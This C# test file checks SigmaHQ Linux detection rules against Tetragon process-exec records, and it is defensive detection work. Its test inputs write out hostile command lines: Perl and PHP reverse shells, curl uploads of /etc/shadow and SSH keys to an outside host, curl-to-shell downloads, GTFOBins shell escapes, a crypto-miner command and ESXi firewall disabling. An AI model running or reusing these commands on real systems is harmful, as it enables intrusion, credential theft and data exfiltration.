using static ZtStream.Verifier.Tests.Rules.Sigma.TetragonExecs;

namespace ZtStream.Verifier.Tests.Rules.Sigma;

/// <summary>
/// More of SigmaHQ's Linux process-creation rules (GTFOBins shell escapes, reverse shells, downloads and uploads,
/// discovery, ESXi, defence evasion), loaded as published and run on Tetragon <c>process_exec</c> records through the
/// reader Ingest uses, each beside a near miss: in a pod and on the node, as root and as other users, with the binary's
/// path or name, with Tetragon's quoting of an argument that holds a space, and with or without a parent.
/// </summary>
public sealed class SigmaHqLinuxShellsAndReconTests
{
    private static Rule Rule(string id) => SigmaHqLinuxProcessCreationFolder.Rule(id);

    [Fact]
    public void AttackTools_AreTheirBinariesNotTheirNamesInArguments()
    {
        var rule = Rule("b952740a-799f-45fa-987c-b5f872af6a52");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/nmap", "-sS 10.0.0.0/24", pod: false)));
        Assert.True(rule.Fires(Format, Exec("/usr/local/bin/chisel", "client 203.0.113.9:8080 R:socks", user: "app", uid: 10001)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/ncdu", "/var")));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/ls", "-l /usr/bin/nmap")));
    }

    [Fact]
    public void BpfdoorRedirect_IsANatRedirectToItsPorts()
    {
        var rule = Rule("2e258051-0dcb-4790-b824-92d844abe9cf");

        Assert.True(rule.Fires(Format, Exec("/usr/sbin/iptables", "-t nat -I PREROUTING -p tcp -s 198.51.100.7 --dport 22 -j REDIRECT --to-ports 42392", pod: false)));
        Assert.False(rule.Fires(Format, Exec("/usr/sbin/iptables", "-t nat -I PREROUTING -p tcp --dport 80 -j REDIRECT --to-ports 8080", pod: false)));
    }

    [Fact]
    public void BpftraceUnsafe_NeedsTheUnsafeFlag()
    {
        var rule = Rule("f8341cb2-ee25-43fa-a975-d8a5a9714b39");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/bpftrace", "--unsafe /opt/probes/exec.bt", pod: false)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/bpftrace", "-l tracepoint:syscalls:*", pod: false)));
    }

    [Fact]
    public void BrowserCredentialDatabases_AreCopiedOrArchived_EvenWhenTheFileNameHoldsASpace()
    {
        var rule = Rule("096c302e-5e7b-4771-b5e5-12c8d690a96d");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/cp", "/home/dev/.mozilla/firefox/abcd.default-release/logins.json /tmp/.l", user: "dev", uid: 1000)));
        Assert.True(rule.Fires(Format, Exec("/usr/bin/tar", "czf /tmp/c.tgz \"/home/dev/.config/google-chrome/Default/Login Data\"", user: "dev", uid: 1000)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/cp", "/home/dev/.config/google-chrome/Default/Preferences /tmp/p")));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/vim", "/home/dev/.mozilla/firefox/abcd.default-release/logins.json")));
    }

    [Fact]
    public void BrowserInformationDiscovery_ReadsTheValuesWildcard()
    {
        var rule = Rule("53f9703e-abc5-4eff-945e-2ab75c206c63");

        // 'cert*.db' is a wildcard inside contains: cert9.db matches it, cert_override.txt does not.
        Assert.True(rule.Fires(Format, Exec("/usr/bin/cat", "/home/dev/.mozilla/firefox/abcd.default/cert9.db")));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/cat", "/home/dev/.mozilla/firefox/abcd.default/cert_override.txt")));
    }

    [Fact]
    public void ChromiumRemoteDebugging_ButNotPortZero()
    {
        var rule = Rule("8263330b-3689-428b-b1ec-fe363579223a");

        Assert.True(rule.Fires(Format, Exec("/opt/google/chrome/chrome", "--headless --remote-debugging-port=9222 --user-data-dir=/home/dev/.config/google-chrome", user: "dev", uid: 1000)));
        Assert.False(rule.Fires(Format, Exec("/opt/google/chrome/chrome", "--headless --remote-debugging-port=0")));
        Assert.False(rule.Fires(Format, Exec("/opt/google/chrome/chrome", "--headless https://example.com")));
    }

    [Fact]
    public void SetcapSetgid_IsCapSetgidGiven()
    {
        var rule = Rule("3a716279-c18c-4488-83be-f9ececbfb9fc");

        Assert.True(rule.Fires(Format, Exec("/usr/sbin/setcap", "cap_setgid+ep /usr/bin/python3.11")));
        Assert.False(rule.Fires(Format, Exec("/usr/sbin/setcap", "cap_setuid+ep /usr/bin/python3.11")));
    }

    [Fact]
    public void CryptoMining_IsAPoolOrXmrigsModprobe()
    {
        var rule = Rule("9069ea3c-b213-4c52-be13-86506a227ab1");

        Assert.True(rule.Fires(Format, Exec("/tmp/.x/xmrig", "-o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ --donate-level=0", user: "www-data", uid: 33)));
        Assert.True(rule.Fires(Format, Exec("/bin/sh", "-c \"/sbin/modprobe msr allow_writes=on\"", "/tmp/.x/xmrig", null)));
        Assert.False(rule.Fires(Format, Exec("/tmp/.x/xmrig", "--version")));
    }

    [Fact]
    public void KernelModuleDiscovery_IsFindingKoFilesUnderLibModules()
    {
        var rule = Rule("9115eaca-44de-4b8d-9bac-922d3ceaed78");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/find", "/lib/modules/6.8.0-45-generic -name *.ko", pod: false)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/find", "/lib/modules/6.8.0-45-generic -name modules.dep", pod: false)));
    }

    [Fact]
    public void EsxiFirewallDisabled_AndAdminGranted_AndVmsListed()
    {
        var firewall = Rule("18fba7a0-8f63-49d3-9fc4-6192fe34793c");
        var admin = Rule("9691f58d-92c1-4416-8bf3-2edd753ec9cf");
        var vms = Rule("5f1573a7-363b-4114-9208-ad7a61de46eb");

        Assert.True(firewall.Fires(Format, Exec("/bin/esxcli", "network firewall set --enabled false", parent: "/bin/sh", pod: false)));
        Assert.False(firewall.Fires(Format, Exec("/bin/esxcli", "network firewall set --enabled true", parent: "/bin/sh", pod: false)));

        Assert.True(admin.Fires(Format, Exec("/bin/esxcli", "system permission set --id backdoor --role Admin", pod: false)));
        Assert.False(admin.Fires(Format, Exec("/bin/esxcli", "system permission set --id auditor --role ReadOnly", pod: false)));

        Assert.True(vms.Fires(Format, Exec("/bin/esxcli", "vm process list", pod: false)));
        Assert.False(vms.Fires(Format, Exec("/bin/esxcli", "vm process kill --type=force --world-id=1234", pod: false)));
    }

    [Fact]
    public void GtfoBinsShells_FlockFindNiceGcc()
    {
        var flock = Rule("4b09c71e-4269-4111-9cdd-107d8867f0cc");
        var find = Rule("6adfbf8f-52be-4444-9bac-81b539624146");
        var nice = Rule("093d68c7-762a-42f4-9f46-95e79142571a");
        var gcc = Rule("9b5de532-a757-4d70-946c-1f3e44f48b4d");

        Assert.True(flock.Fires(Format, Exec("/usr/bin/flock", "-u / /bin/sh", user: "dev", uid: 1000)));
        Assert.False(flock.Fires(Format, Exec("/usr/bin/flock", "-n /var/lock/backup.lock /usr/local/bin/backup.sh")));

        Assert.True(find.Fires(Format, Exec("/usr/bin/find", ". -exec /bin/sh ; -quit", user: "dev", uid: 1000)));
        Assert.False(find.Fires(Format, Exec("/usr/bin/find", ". -name *.log -exec rm {} ;")));

        Assert.True(nice.Fires(Format, Exec("/usr/bin/nice", "/bin/sh", pod: false)));
        Assert.False(nice.Fires(Format, Exec("/usr/bin/nice", "-n 10 /usr/bin/make")));

        Assert.True(gcc.Fires(Format, Exec("/usr/bin/gcc", "-wrapper /bin/sh,-s .")));
        Assert.False(gcc.Fires(Format, Exec("/usr/bin/gcc", "-O2 -o app main.c")));
    }

    [Fact]
    public void GitPagerShell_ReadsTheParentsArguments()
    {
        var rule = Rule("47b3bbd4-1bf7-48cc-84ab-995362aaa75a");

        Assert.True(rule.Fires(Format, Exec("/bin/bash", "-c \"bash 0<&1\"", "/usr/bin/git", "-p help config", user: "dev", uid: 1000)));
        Assert.False(rule.Fires(Format, Exec("/bin/bash", "-c \"bash 0<&1\"", "/usr/bin/git", "help config", user: "dev", uid: 1000)));
    }

    [Fact]
    public void UfwChainsFlushed_IsIptablesFlushingAUfwChain()
    {
        var rule = Rule("3be619f4-d9ec-4ea8-a173-18fdd01996ab");

        Assert.True(rule.Fires(Format, Exec("/usr/sbin/iptables", "-F ufw-logging-deny", pod: false)));
        Assert.False(rule.Fires(Format, Exec("/usr/sbin/iptables", "-F INPUT", pod: false)));
    }

    [Fact]
    public void SuspiciousPackageInstalled_ByAptOrDpkg()
    {
        var rule = Rule("700fb7e8-2981-401c-8430-be58e189e741");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/apt-get", "install -y nmap")));
        Assert.True(rule.Fires(Format, Exec("/usr/bin/dpkg", "-i /tmp/socat_1.7.4.4-2_amd64.deb", pod: false)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/apt-get", "install -y curl")));
    }

    [Fact]
    public void WgetToTmp_HonoursTheRulesCaseSensitiveRegex()
    {
        var rule = Rule("cf610c15-ed71-46e1-bdf8-2bd1a99de6c4");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/wget", "-q -O /tmp/.x http://203.0.113.9/x")));
        Assert.True(rule.Fires(Format, Exec("/usr/bin/wget", "--output-document=/tmp/a.sh https://203.0.113.9/a.sh", user: "www-data", uid: 33)));

        // '-o' writes wget's log, not the download: the rule's regex '\s-O\s' is case-sensitive, as the specification says.
        Assert.False(rule.Fires(Format, Exec("/usr/bin/wget", "-o /tmp/wget.log https://example.com/a.tar.gz")));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/wget", "-O /home/dev/a.tar.gz https://example.com/a.tar.gz")));
    }

    [Fact]
    public void CurlUpload_IsAFormOrUploadFlag_ButNotToLocalhost()
    {
        var rule = Rule("00b90cc1-17ec-402c-96ad-3a8117d7a582");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/curl", "-F file=@/etc/shadow https://203.0.113.9/u")));
        Assert.True(rule.Fires(Format, Exec("/usr/bin/curl", "-T /root/.ssh/id_rsa ftp://203.0.113.9/", pod: false)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/curl", "-f -s https://example.com/health")));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/curl", "--data @body.json http://localhost:8080/api")));
    }

    [Fact]
    public void GhTokenRead_ByAPackagesInstallScript()
    {
        var rule = Rule("7b2e4f91-3c5d-4a8e-b6f0-1d9e2c7a4b5f");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/gh", "auth token", "/usr/local/bin/node", "/app/node_modules/pkg/postinstall.js", user: "runner", uid: 1001)));
        Assert.True(rule.Fires(Format, Exec("/usr/bin/gh", "config get -h github.com oauth_token", "/usr/bin/python3.12", "setup.py install")));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/gh", "auth token", "/bin/bash", "-l", user: "runner", uid: 1001)));
    }

    [Fact]
    public void VimShellEscape_IsACommandRunningAShell()
    {
        var rule = Rule("7ab8f73a-fcff-428b-84aa-6a5ff7877dea");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/vim", "-c :!/bin/sh", user: "dev", uid: 1000)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/vim", "/etc/hosts")));
    }

    [Fact]
    public void CredentialScanners_TruffleHogAnywhere_OrOneStartedByNodeOrBun()
    {
        var trufflehog = Rule("d7a650c4-226c-451e-948f-cc490db506aa");
        var spawned = Rule("f0025a69-e1b7-4dda-a53c-db21fa2d4071");

        Assert.True(trufflehog.Fires(Format, Exec("/usr/local/bin/trufflehog", "filesystem /app")));
        Assert.False(trufflehog.Fires(Format, Exec("/usr/local/bin/gitleaks", "detect --source /app")));

        Assert.True(spawned.Fires(Format, Exec("/usr/local/bin/trufflehog", "filesystem /home/runner --json", "/home/runner/.bun/bin/bun", "bun_environment.js", user: "runner", uid: 1001)));
        Assert.True(spawned.Fires(Format, Exec("/bin/sh", "-c \"gitleaks detect --source .\"", "/usr/bin/node", "setup.js")));
        Assert.False(spawned.Fires(Format, Exec("/usr/local/bin/trufflehog", "git file://.", "/usr/bin/bash", "-c make", user: "runner", uid: 1001)));
    }

    [Fact]
    public void FindPermissionDiscovery_IsSearchingForSetuidFiles()
    {
        var rule = Rule("8344c0e5-5783-47cc-9cf9-a0f7fd03e6cf");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/find", "/ -perm -4000 -type f", user: "www-data", uid: 33)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/find", "/var/www -perm 644")));
    }

    [Fact]
    public void NetworkScanners_ButNotNetcatListening()
    {
        var rule = Rule("3e102cd9-a70d-4a7a-9508-403963092f31");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/nc", "-zv 10.0.0.5 22")));
        Assert.True(rule.Fires(Format, Exec("/usr/bin/nmap", "-sV 10.0.0.0/24", pod: false)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/nc", "-l -p 4444")));
    }

    [Fact]
    public void ShellPipedToShell_IsTheShellsOwnCommandLine()
    {
        var rule = Rule("880973f3-9708-491c-a77b-2a35a1921158");

        Assert.True(rule.Fires(Format, Exec("/bin/sh", "-c \"curl -fsSL http://203.0.113.9/i.sh | sh\"")));
        Assert.False(rule.Fires(Format, Exec("/bin/sh", "-c \"curl -fsSL http://203.0.113.9/i.sh | tee /tmp/i.sh\"")));
    }

    [Fact]
    public void DockerenvListed_IsItsPathAtTheEnd()
    {
        var rule = Rule("11701de9-d5a5-44aa-8238-84252f131895");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/ls", "-la /.dockerenv", user: "nobody", uid: 65534)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/ls", "-la /")));
    }

    [Fact]
    public void ExecutionFromSharedMemoryOrTmp_ButNotNextcloudsAppImage()
    {
        var shm = Rule("5cd16c8f-44a6-4654-81e7-a84d6db507d4");
        var tmp = Rule("312b42b1-bded-4441-8b58-163a3af58775");

        Assert.True(shm.Fires(Format, Exec("/dev/shm/.x/kworker", null, parent: null, pod: false)));
        Assert.False(shm.Fires(Format, Exec("/usr/bin/ls", "-la /dev/shm")));

        Assert.True(tmp.Fires(Format, Exec("/tmp/.ICE-unix/agent", "-d", user: "nobody", uid: 65534)));
        Assert.False(tmp.Fires(Format, Exec("/tmp/.mount_NextclXyz/usr/bin/nextcloud", "--background", user: "dev", uid: 1000)));
        Assert.False(tmp.Fires(Format, Exec("/usr/bin/ls", "/tmp/")));
    }

    [Fact]
    public void SensitiveFileEdited_ByAnEditor_WithTheRulesWildcardPath()
    {
        var rule = Rule("86157017-c2b1-4d4a-8c33-93b8e67e4af4");

        Assert.True(rule.Fires(Format, Exec("/bin/nano", "/etc/hosts")));
        Assert.True(rule.Fires(Format, Exec("/usr/bin/sed", "-i \"s/^nameserver.*/nameserver 203.0.113.53/\" /etc/resolv.conf", pod: false)));
        Assert.False(rule.Fires(Format, Exec("/bin/nano", "/home/dev/notes.txt")));

        // argv[0] is read as the binary's path too (Tetragon does not keep it), and '/usr/bin/' is one of the rule's paths:
        // an editor under /usr/bin matches whatever it opens (docs/rules.md, SigmaHQ's Linux process-creation rules).
        Assert.True(rule.Fires(Format, Exec("/usr/bin/vim", "/home/dev/notes.txt")));
    }

    [Fact]
    public void ScriptingReverseShells_PerlPythonPhp()
    {
        var perl = Rule("259df6bc-003f-4306-9f54-4ff1a08fa38e");
        var pty = Rule("c4042d54-110d-45dd-a0e1-05c47822c937");
        var osSystem = Rule("2d2f44ff-4611-4778-a8fc-323a0e9850cc");
        var php = Rule("c6714a24-d7d5-4283-a36b-3ffd091d5f7e");

        Assert.True(perl.Fires(Format, Exec("/usr/bin/perl", "-e \"use Socket;$i='203.0.113.9';$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,'>&S');exec('/bin/sh -i');};\"")));
        Assert.False(perl.Fires(Format, Exec("/usr/bin/perl", "-e \"print 'hello'\"")));

        Assert.True(pty.Fires(Format, Exec("/usr/bin/python3.11", "-c \"import pty; pty.spawn('/bin/bash')\"", user: "www-data", uid: 33)));
        Assert.False(pty.Fires(Format, Exec("/usr/bin/python3.11", "-c \"import os; print(os.getcwd())\"")));

        Assert.True(osSystem.Fires(Format, Exec("/usr/bin/python3", "-c \"import os; os.system('/bin/sh')\"", pod: false)));
        Assert.False(osSystem.Fires(Format, Exec("/usr/bin/python3", "-c \"import os; os.system('ls')\"", pod: false)));

        Assert.True(php.Fires(Format, Exec("/usr/bin/php8.2", "-r \"$sock=fsockopen('203.0.113.9',4444);exec('/bin/sh -i <&3 >&3 2>&3');\"", user: "www-data", uid: 33)));
        Assert.False(php.Fires(Format, Exec("/usr/bin/php8.2", "-r \"echo phpversion();\"")));
    }

    [Fact]
    public void HackTools_AreTheirBinaries()
    {
        var rule = Rule("a015e032-146d-4717-8944-7a1884122111");

        Assert.True(rule.Fires(Format, Exec("/tmp/linpeas.sh", null, user: "www-data", uid: 33)));
        Assert.True(rule.Fires(Format, Exec("/usr/bin/hashcat", "-m 1000 hashes.txt rockyou.txt", pod: false)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/johnny", null)));
    }

    [Fact]
    public void SecurityToolsDisabled_FalconStoppedOrSelinuxPermissive()
    {
        var rule = Rule("e3a8a052-111f-4606-9aee-f28ebeb76776");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/systemctl", "stop falcon-sensor", pod: false)));
        Assert.True(rule.Fires(Format, Exec("/usr/sbin/setenforce", "0", pod: false)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/systemctl", "status falcon-sensor", pod: false)));
    }

    [Fact]
    public void SsmAgentReRegistered_NeedsEveryRegistrationFlag()
    {
        var rule = Rule("f9b3edc5-3322-4fc7-8aa3-245d646cc4b7");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/amazon-ssm-agent", "-register -code AbCdEf -id 1b2c3d4e-5f60 -region us-east-1 -y", pod: false)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/amazon-ssm-agent", null, pod: false)));
    }

    [Fact]
    public void NamedPipeInTmp_AndTripleCrossInstall()
    {
        var fifo = Rule("999c3b12-0a8c-40b6-8e13-dd7d62b75c7a");
        var tc = Rule("22236d75-d5a0-4287-bf06-c93b1770860f");

        Assert.True(fifo.Fires(Format, Exec("/usr/bin/mkfifo", "/tmp/f")));
        Assert.False(fifo.Fires(Format, Exec("/usr/bin/mkfifo", "/run/app/ctl.fifo")));

        Assert.True(tc.Fires(Format, Exec("/usr/bin/sudo", "tc qdisc add dev enp0s3 clsact", user: "ops", uid: 1002, pod: false)));
        Assert.False(tc.Fires(Format, Exec("/usr/bin/sudo", "tc qdisc show dev eth0", user: "ops", uid: 1002, pod: false)));
    }

    [Fact]
    public void NetworkConnectionsDiscovery_ButNotLandscapesWho()
    {
        var rule = Rule("4c519226-f0cd-4471-bd2f-6fbb2bb68a79");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/netstat", "-antp")));
        Assert.True(rule.Fires(Format, Exec("/usr/bin/who", null, pod: false)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/who", null, "/usr/bin/python3", "/usr/bin/landscape-sysinfo", pod: false)));
    }

    [Fact]
    public void ShellUnderRsync_IsAShellRsyncStarted()
    {
        var rule = Rule("297241f3-8108-4b3a-8c15-2dda9f844594");

        Assert.True(rule.Fires(Format, Exec("/bin/sh", "-c id", "/usr/bin/rsync", "--daemon --no-detach", pod: false)));
        Assert.False(rule.Fires(Format, Exec("/bin/sh", "-c id", "/usr/bin/tar", "-xf a.tar", pod: false)));
    }

    [Fact]
    public void SshProxyCommandShell_ReadsTheQuotedOption()
    {
        var rule = Rule("8737b7f6-8df3-4bb7-b1da-06019b99b687");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/ssh", "-o \"ProxyCommand=;sh 0<&2 1>&2\" x", user: "dev", uid: 1000)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/ssh", "-o ProxyCommand=none deploy@10.0.0.5")));
    }

    [Fact]
    public void PowerTargetsMasked_ButNotAServiceMasked()
    {
        var rule = Rule("c172b7b5-f3a1-4af2-90b7-822c63df86cb");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/systemctl", "mask sleep.target suspend.target hibernate.target hybrid-sleep.target", pod: false)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/systemctl", "mask nginx.service", pod: false)));
    }

    [Fact]
    public void XtermToARemoteDisplay()
    {
        var rule = Rule("4e25af4b-246d-44ea-8563-e42aacab006b");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/xterm", "-display 203.0.113.9:1")));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/xterm", "-display :0")));
    }

    [Fact]
    public void ConfluenceChild_IsAShellUnderConfluencesJava()
    {
        var rule = Rule("7fb14105-530e-4e2e-8cfb-99f7d8700b66");

        Assert.True(rule.Fires(Format, Exec("/bin/bash", "-c \"curl http://203.0.113.9/x | bash\"", "/opt/atlassian/confluence/jre/bin/java", "-classpath /opt/atlassian/confluence/bin/bootstrap.jar org.apache.catalina.startup.Bootstrap start", user: "confluence", uid: 2002)));
        Assert.False(rule.Fires(Format, Exec("/bin/bash", "-c \"curl http://203.0.113.9/x | bash\"", "/usr/lib/jvm/java-17/bin/java", "-jar app.jar", user: "app", uid: 10001)));
    }
}
